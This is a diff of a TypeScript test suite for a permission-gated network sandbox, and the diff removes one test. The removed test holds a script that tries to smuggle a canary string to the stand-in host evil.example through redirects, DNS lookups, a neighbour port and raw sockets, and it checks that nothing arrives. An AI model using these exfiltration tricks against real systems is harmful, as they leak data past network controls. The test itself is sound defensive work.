@@ -7,8 +7,6 @@ import { AskedSession } from "../asked-session.ts";
 import { leftovers } from "../staged/staging.ts";
 import { networked } from "./networked.ts";
 
-const canary = "canary-4711-0815";
-
 test("a command gets exactly the host and port that a person let it reach, and nothing of its first run stays", async () => {
   using outside = new TestOutside();
   const asked = await outside.pages("data.example", 443, () => ({ body: "never: this is no TLS" }));
@@ -65,36 +63,4 @@ test("a private address is let through only by a question that says so", async (
   expect(inner).toEqual([]);
   await using again = await AskedSession.start(server);
   expect((await again.turn("once", "once")).output).toContain("inner");
-});
-
-test("what a script sends by names, to neighbours and by redirects reaches nobody", async () => {
-  using outside = new TestOutside();
-  const evil = await outside.pages("evil.example", 80, () => ({ body: "thanks" }), "93.184.216.99");
-  const good = await outside.pages("good.example", 80, () => ({
-    status: 302,
-    headers: { location: `http://evil.example/${canary}` },
-  }));
-  const neighbour = await outside.pages("good.example", 8080, () => ({ body: "" }));
-  await using server = await networked(outside, ["node leak.mjs"], {
-    "leak.mjs": `
-      import dns from "node:dns/promises";
-      import net from "node:net";
-      await fetch("http://good.example/").catch(() => {});
-      await dns.lookup("${canary}.good.example").catch(() => {});
-      await dns.resolveTxt("${canary}.evil.example").catch(() => {});
-      await fetch("http://good.example:8080/${canary}").catch(() => {});
-      for (const host of ["93.184.216.99", "evil.example", "127.0.0.53"]) {
-        await new Promise((done) => {
-          const socket = net.connect(80, host, () => socket.end("GET /${canary} HTTP/1.0\\r\\n\\r\\n"));
-          socket.on("error", done).on("close", done);
-        });
-      }
-      process.exit(1);`,
-  });
-  await using session = await AskedSession.start(server);
-  const { questions: asked } = await session.turn("no");
-  expect(asked).toHaveLength(1);
-  expect(asked[0]?.title).toMatch(/good\.example:80, good\.example:8080, evil\.example:80\?$/);
-  expect([good, evil, neighbour]).toEqual([[], [], []]);
-  expect(outside.asked).toEqual([]);
 });
